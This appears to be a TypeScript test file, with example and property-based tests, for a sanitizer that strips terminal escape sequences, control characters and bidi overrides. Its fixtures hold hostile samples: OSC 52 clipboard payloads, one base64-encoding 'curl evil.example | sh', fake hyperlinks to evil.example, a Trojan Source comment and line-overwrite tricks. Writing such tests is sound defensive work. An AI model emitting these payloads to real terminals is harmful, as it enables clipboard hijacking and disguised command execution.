import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitize, sanitizeLine } from '../../src/domain/sanitize.js';

/** Every character sanitize must never let through. */
const UNSAFE_CHAR = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

interface Case {
  name: string;
  input: string;
  expected: string;
}

const ESC = '\x1b';
const BEL = '\x07';
const ST = '\x1b\\';

const removeCases: Case[] = [
  // CSI, 7-bit.
  { name: 'CSI SGR colour', input: `a${ESC}[31mred${ESC}[0m b`, expected: 'ared b' },
  { name: 'CSI SGR reset without parameter', input: `x${ESC}[my`, expected: 'xy' },
  { name: 'CSI truecolour', input: `${ESC}[38;2;255;0;0mX${ESC}[39m`, expected: 'X' },
  { name: 'CSI cursor position', input: `${ESC}[10;20HX`, expected: 'X' },
  {
    name: 'CSI cursor up/down/left/right',
    input: `a${ESC}[2Ab${ESC}[Bc${ESC}[3Dd${ESC}[Ce`,
    expected: 'abcde',
  },
  { name: 'CSI erase display', input: `${ESC}[2J${ESC}[H`, expected: '' },
  { name: 'CSI erase line', input: `keep${ESC}[K`, expected: 'keep' },
  { name: 'CSI private mode (alt screen)', input: `${ESC}[?1049hX${ESC}[?1049l`, expected: 'X' },
  { name: 'CSI private mode (hide cursor)', input: `${ESC}[?25lX`, expected: 'X' },
  { name: 'CSI bracketed paste end', input: `a${ESC}[201~b`, expected: 'ab' },
  { name: 'CSI bracketed paste start', input: `a${ESC}[200~b`, expected: 'ab' },
  { name: 'CSI with intermediate (DECSCUSR)', input: `a${ESC}[1 qb`, expected: 'ab' },
  { name: 'CSI with intermediate (DECSTR)', input: `a${ESC}[!pb`, expected: 'ab' },
  { name: 'CSI with > prefix (DA2)', input: `a${ESC}[>0cb`, expected: 'ab' },
  // CSI, 8-bit.
  { name: '8-bit CSI colour', input: '\x9b31mred\x9b0m', expected: 'red' },
  { name: '8-bit CSI erase display', input: 'a\x9b2Jb', expected: 'ab' },
  { name: '8-bit CSI private mode', input: 'a\x9b?1049hb', expected: 'ab' },

  // OSC.
  {
    name: 'OSC 52 clipboard write, BEL',
    input: `ok${ESC}]52;c;ZWNobyBwd25lZAo=${BEL}done`,
    expected: 'okdone',
  },
  {
    name: 'OSC 52 clipboard write, ST',
    input: `ok${ESC}]52;c;ZWNobyBwd25lZAo=${ST}done`,
    expected: 'okdone',
  },
  { name: 'OSC 52 clipboard query', input: `${ESC}]52;c;?${BEL}`, expected: '' },
  {
    name: 'OSC 8 hyperlink, ST',
    input: `${ESC}]8;;https://evil.example/${ST}click here${ESC}]8;;${ST}`,
    expected: 'click here',
  },
  {
    name: 'OSC 8 hyperlink, BEL',
    input: `${ESC}]8;id=1;https://evil.example/${BEL}click${ESC}]8;;${BEL}`,
    expected: 'click',
  },
  { name: 'OSC 0 window title, BEL', input: `${ESC}]0;pwned${BEL}text`, expected: 'text' },
  { name: 'OSC 2 window title, ST', input: `${ESC}]2;pwned${ST}text`, expected: 'text' },
  { name: 'OSC ends at the first BEL', input: `${ESC}]0;a${BEL}b${BEL}`, expected: 'b' },
  { name: 'OSC terminated by CAN', input: `${ESC}]0;t\x18after`, expected: 'after' },
  { name: 'OSC terminated by SUB', input: `${ESC}]0;t\x1aafter`, expected: 'after' },
  { name: 'OSC terminated by 8-bit ST', input: `${ESC}]0;t\x9cafter`, expected: 'after' },
  { name: '8-bit OSC, 8-bit ST', input: 'a\x9d52;c;AAAA\x9cb', expected: 'ab' },
  { name: '8-bit OSC, BEL', input: 'a\x9d0;title\x07b', expected: 'ab' },
  { name: '8-bit OSC, 7-bit ST', input: `a\x9d8;;https://x/${ST}b`, expected: 'ab' },

  // DCS.
  { name: 'DCS, ST', input: `a${ESC}P1$r0m${ST}b`, expected: 'ab' },
  { name: 'DCS sixel, ST', input: `a${ESC}Pq#0;2;0;0;0#0~~@@vv${ST}b`, expected: 'ab' },
  { name: 'DCS, BEL', input: `a${ESC}P+q544e${BEL}b`, expected: 'ab' },
  { name: '8-bit DCS, 8-bit ST', input: 'a\x90+q544e\x9cb', expected: 'ab' },
  { name: '8-bit DCS, 7-bit ST', input: `a\x90data${ST}b`, expected: 'ab' },

  // APC.
  { name: 'APC (kitty graphics), ST', input: `a${ESC}_Gi=1,a=q;AAAA${ST}b`, expected: 'ab' },
  { name: 'APC, BEL', input: `a${ESC}_payload${BEL}b`, expected: 'ab' },
  { name: '8-bit APC, 8-bit ST', input: 'a\x9fpayload\x9cb', expected: 'ab' },

  // PM.
  { name: 'PM, ST', input: `a${ESC}^privacy${ST}b`, expected: 'ab' },
  { name: 'PM, BEL', input: `a${ESC}^privacy${BEL}b`, expected: 'ab' },
  { name: '8-bit PM, 8-bit ST', input: 'a\x9eprivacy\x9cb', expected: 'ab' },

  // SOS.
  { name: 'SOS, ST', input: `a${ESC}Xstart of string${ST}b`, expected: 'ab' },
  { name: 'SOS, BEL', input: `a${ESC}Xstart${BEL}b`, expected: 'ab' },
  { name: '8-bit SOS, 8-bit ST', input: 'a\x98start\x9cb', expected: 'ab' },

  // String terminators on their own.
  { name: 'lone 7-bit ST', input: `a${ST}b`, expected: 'ab' },
  { name: 'lone 8-bit ST', input: 'a\x9cb', expected: 'ab' },

  // Unterminated string sequences run to the end.
  { name: 'unterminated OSC 52', input: `keep${ESC}]52;c;ZWNobyBwd25lZAo=`, expected: 'keep' },
  {
    name: 'unterminated OSC swallows newlines to the end',
    input: `keep${ESC}]0;title\nline two\n`,
    expected: 'keep',
  },
  { name: 'unterminated 8-bit OSC', input: 'keep\x9d0;title', expected: 'keep' },
  { name: 'unterminated DCS', input: `keep${ESC}Pqqq`, expected: 'keep' },
  { name: 'unterminated 8-bit DCS', input: 'keep\x90qqq', expected: 'keep' },
  { name: 'unterminated APC', input: `keep${ESC}_Gpayload`, expected: 'keep' },
  { name: 'unterminated 8-bit APC', input: 'keep\x9fpayload', expected: 'keep' },
  { name: 'unterminated PM', input: `keep${ESC}^secret`, expected: 'keep' },
  { name: 'unterminated 8-bit PM', input: 'keep\x9esecret', expected: 'keep' },
  { name: 'unterminated SOS', input: `keep${ESC}Xstring`, expected: 'keep' },
  { name: 'unterminated 8-bit SOS', input: 'keep\x98string', expected: 'keep' },
  { name: 'bare OSC introducer at the end', input: `keep${ESC}]`, expected: 'keep' },

  // Other escapes.
  { name: 'ESC c (full reset)', input: `a${ESC}cb`, expected: 'ab' },
  { name: 'ESC 7 / ESC 8 (save/restore cursor)', input: `a${ESC}7b${ESC}8c`, expected: 'abc' },
  { name: 'ESC ( B (charset)', input: `a${ESC}(Bb`, expected: 'ab' },
  { name: 'ESC ( 0 (line drawing)', input: `a${ESC}(0qqq${ESC}(B`, expected: 'aqqq' },
  { name: 'ESC # 8 (DECALN)', input: `a${ESC}#8b`, expected: 'ab' },
  { name: 'ESC = / ESC > (keypad)', input: `a${ESC}=b${ESC}>c`, expected: 'abc' },
  { name: 'ESC M (reverse index)', input: `a${ESC}Mb`, expected: 'ab' },
  { name: 'ESC D / ESC E', input: `a${ESC}Db${ESC}Ec`, expected: 'abc' },
  { name: 'ESC alone at the end', input: `a${ESC}`, expected: 'a' },
  { name: 'ESC followed by a control', input: `a${ESC}\x00b`, expected: 'ab' },
  { name: 'ESC followed by non-ASCII', input: `a${ESC}éb`, expected: 'aéb' },
  { name: 'double ESC before CSI', input: `${ESC}${ESC}[31mX`, expected: 'X' },
  { name: 'ESC [ with no final byte', input: `a${ESC}[`, expected: 'a' },

  // C0 controls (tab and newline excepted).
  { name: 'NUL', input: 'a\x00b', expected: 'ab' },
  { name: 'SOH/STX/ETX/EOT/ENQ/ACK', input: 'a\x01\x02\x03\x04\x05\x06b', expected: 'ab' },
  { name: 'BEL', input: `a${BEL}b`, expected: 'ab' },
  { name: 'BS (overstrike trick)', input: 'safe\x08\x08\x08\x08evil', expected: 'safeevil' },
  { name: 'CR (line overwrite)', input: 'rm -rf /\rls', expected: 'rm -rf /ls' },
  { name: 'CRLF keeps the LF', input: 'one\r\ntwo', expected: 'one\ntwo' },
  { name: 'VT', input: 'a\x0bb', expected: 'ab' },
  { name: 'FF', input: 'a\x0cb', expected: 'ab' },
  { name: 'SO/SI', input: 'a\x0e\x0fb', expected: 'ab' },
  { name: 'DLE..ETB', input: 'a\x10\x11\x12\x13\x14\x15\x16\x17b', expected: 'ab' },
  { name: 'CAN/EM/SUB', input: 'a\x18\x19\x1ab', expected: 'ab' },
  { name: 'FS/GS/RS/US', input: 'a\x1c\x1d\x1e\x1fb', expected: 'ab' },

  // DEL and C1.
  { name: 'DEL', input: 'a\x7fb', expected: 'ab' },
  {
    name: 'C1 controls that introduce nothing',
    input: 'a\x80\x81\x82\x83\x84\x85\x86\x87\x88\x89\x8a\x8b\x8c\x8d\x8e\x8fb',
    expected: 'ab',
  },
  {
    name: 'C1 controls 0x91-0x97, 0x99, 0x9a',
    input: 'a\x91\x92\x93\x94\x95\x96\x97\x99\x9ab',
    expected: 'ab',
  },
  { name: 'NEL (0x85)', input: 'one\x85two', expected: 'onetwo' },

  // Bidi embeddings, overrides and isolates.
  { name: 'LRE U+202A', input: 'a\u202ab', expected: 'ab' },
  { name: 'RLE U+202B', input: 'a\u202bb', expected: 'ab' },
  { name: 'PDF U+202C', input: 'a\u202cb', expected: 'ab' },
  { name: 'LRO U+202D', input: 'a\u202db', expected: 'ab' },
  { name: 'RLO U+202E', input: 'a\u202eb', expected: 'ab' },
  { name: 'LRI U+2066', input: 'a\u2066b', expected: 'ab' },
  { name: 'RLI U+2067', input: 'a\u2067b', expected: 'ab' },
  { name: 'FSI U+2068', input: 'a\u2068b', expected: 'ab' },
  { name: 'PDI U+2069', input: 'a\u2069b', expected: 'ab' },
  {
    name: 'trojan source comment',
    input: '/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */',
    expected: '/* } if (isAdmin)  begin admins only */',
  },

  // Realistic mixture.
  {
    name: 'coloured ticket title with OSC 52 payload and RLO',
    input:
      `${ESC}[1;31m[CRITICAL]${ESC}[0m SQL injection in ` +
      `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=${BEL}` +
      `${ESC}[4mlogin.ts${ESC}[24m: check user\u202enimda\u202c role`,
    expected: '[CRITICAL] SQL injection in login.ts: check usernimda role',
  },
];

const keepCases: Case[] = [
  { name: 'plain ASCII', input: 'Fix the flaky test in auth/login.ts:42', expected: '' },
  {
    name: 'ASCII printable range',
    input: ' !"#$%&\'()*+,-./0123456789:;<=>?@[\\]^_`{|}~',
    expected: '',
  },
  { name: 'tab and newline', input: 'a\tb\nc\n\td', expected: '' },
  { name: 'Latin accents', input: 'café naïve résumé Ærøskøbing Straße', expected: '' },
  { name: 'NBSP and Latin-1 just above C1', input: '\u00a0¡¿©®°±µ¶·ÿ', expected: '' },
  { name: 'combining marks', input: 'e\u0301 a\u0308 n\u0303 Z\u0351\u0352\u0353', expected: '' },
  { name: 'CJK wide characters', input: '日本語のテキスト 中文 한국어', expected: '' },
  { name: 'fullwidth forms', input: 'ＦＵＬＬＷＩＤＴＨ　１２３', expected: '' },
  { name: 'RTL script without overrides', input: 'مرحبا بالعالم שלום עולם', expected: '' },
  { name: 'emoji', input: '🚀 🔥 ✅ 🐛', expected: '' },
  { name: 'emoji ZWJ sequences', input: '👩‍💻 👨‍👩‍👧‍👦 🏳️‍🌈', expected: '' },
  { name: 'emoji skin tone and variation selector', input: '👍🏽 ❤️ ☺︎', expected: '' },
  { name: 'flags', input: '🇫🇷 🇯🇵 🇺🇦', expected: '' },
  { name: 'astral symbols', input: '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝟘𝟙 𓀀', expected: '' },
  { name: 'neighbours of the bidi ranges', input: '\u2029\u202f\u2065\u2070', expected: '' },
  { name: 'zero-width joiner and non-joiner', input: 'a\u200db\u200cc', expected: '' },
  { name: 'empty string', input: '', expected: '' },
].map((c) => ({ ...c, expected: c.input }));

describe('sanitize corpus', () => {
  it.each(removeCases)('removes: $name', ({ input, expected }) => {
    expect(sanitize(input)).toBe(expected);
  });

  it.each(keepCases)('keeps: $name', ({ input, expected }) => {
    expect(sanitize(input)).toBe(expected);
  });

  it('returns the very same string when nothing is unsafe', () => {
    const text = 'already clean 👩‍💻';
    expect(sanitize(text)).toBe(text);
  });
});

describe('sanitizeLine', () => {
  it.each([
    { name: 'tab', input: 'a\tb', expected: 'a b' },
    { name: 'newline', input: 'a\nb', expected: 'a b' },
    { name: 'run of tabs and newlines', input: 'a\n\n\t\tb', expected: 'a b' },
    { name: 'CRLF', input: 'a\r\nb', expected: 'a b' },
    { name: 'break separated by an escape', input: `a\t${ESC}[0m\nb`, expected: 'a b' },
    {
      name: 'escapes and breaks',
      input: `${ESC}[31mred${ESC}[0m\ntitle\u202e`,
      expected: 'red title',
    },
    { name: 'existing spaces are left alone', input: 'a  b', expected: 'a  b' },
    { name: 'unicode kept', input: '日本\t👩‍💻\ncafé', expected: '日本 👩‍💻 café' },
  ])('$name', ({ input, expected }) => {
    expect(sanitizeLine(input)).toBe(expected);
  });
});

// Strings biased towards the interesting bytes: fragments of real sequences, lone
// introducers and terminators, controls and bidi characters, mixed with arbitrary text.
const fragment = fc.constantFrom(
  ESC,
  `${ESC}[`,
  '\x9b',
  `${ESC}]`,
  '\x9d',
  `${ESC}P`,
  '\x90',
  `${ESC}_`,
  '\x9f',
  `${ESC}^`,
  '\x9e',
  `${ESC}X`,
  '\x98',
  ST,
  '\x9c',
  '\\',
  BEL,
  '\x18',
  '\x1a',
  '[',
  ']',
  '?',
  ';',
  '1',
  'm',
  '~',
  ' ',
  '(',
  'B',
  '\t',
  '\n',
  '\r',
  '\x00',
  '\x7f',
  '\x85',
  '\u202e',
  '\u2066',
  '\u2069',
  'é',
  '👩‍💻',
);
const hostile = fc
  .array(fc.oneof(fragment, fc.string({ unit: 'binary', maxLength: 4 })), { maxLength: 60 })
  .map((parts) => parts.join(''));
const anyText = fc.oneof(fc.string({ unit: 'binary' }), hostile);

// One code point that sanitize must keep: anything but the unsafe characters.
const safeChar = fc
  .string({ unit: 'binary', minLength: 1, maxLength: 1 })
  .filter((c) => !UNSAFE_CHAR.test(c));

describe('sanitize properties', () => {
  it('never lets an unsafe character through', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(sanitize(text)).not.toMatch(UNSAFE_CHAR);
      }),
      { numRuns: 2000 },
    );
  });

  it('is idempotent', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const once = sanitize(text);
        expect(sanitize(once)).toBe(once);
      }),
      { numRuns: 2000 },
    );
  });

  it('never adds characters', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(sanitize(text).length).toBeLessThanOrEqual(text.length);
      }),
    );
  });

  it('returns printable text unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: safeChar }), (text) => {
        expect(sanitize(text)).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });

  it('returns printable graphemes unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        fc.pre(!UNSAFE_CHAR.test(text));
        expect(sanitize(text)).toBe(text);
      }),
    );
  });

  it('sanitizeLine leaves no control, tab or newline', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const line = sanitizeLine(text);
        expect(line).not.toMatch(UNSAFE_CHAR);
        expect(line).not.toMatch(/[\t\n]/);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('sanitize on large input', () => {
  const TEN_MB = 10 * 1024 * 1024;

  it('strips escapes throughout a 10 MB string', { timeout: 60_000 }, () => {
    const chunk =
      `ok ${ESC}[31mred${ESC}[0m ${ESC}]52;c;QUFBQQ==${BEL}\u202e\x9b2J` +
      `${ESC}]8;;https://x/${ST}link${ESC}]8;;${ST}\x00|\n`;
    const clean = 'ok red link|\n';
    const count = Math.ceil(TEN_MB / chunk.length);
    const input = chunk.repeat(count);
    expect(input.length).toBeGreaterThanOrEqual(TEN_MB);
    const output = sanitize(input);
    expect(output.length).toBe(clean.length * count);
    expect(output).toBe(clean.repeat(count));
  });

  it('drops a 10 MB unterminated OSC to the end', { timeout: 60_000 }, () => {
    const input = `head${ESC}]52;c;${'A'.repeat(TEN_MB)}`;
    expect(sanitize(input)).toBe('head');
  });

  it('handles a 10 MB run of CSI parameters with no final byte', { timeout: 60_000 }, () => {
    const params = '1;'.repeat(TEN_MB / 2);
    // No final byte: ESC [ goes as an ordinary escape and the parameters stay as text.
    expect(sanitize(`${ESC}[${params}`)).toBe(params);
  });

  it('handles 10 MB of lone escapes and controls', { timeout: 60_000 }, () => {
    const input = `${ESC}\x00a\x85`.repeat(TEN_MB / 4);
    expect(sanitize(input)).toBe('a'.repeat(TEN_MB / 4));
  });

  it('returns 10 MB of clean text unchanged', { timeout: 60_000 }, () => {
    const input = 'clean text, café 日本 👩‍💻\n'.repeat(TEN_MB / 32);
    expect(sanitize(input)).toBe(input);
  });
});
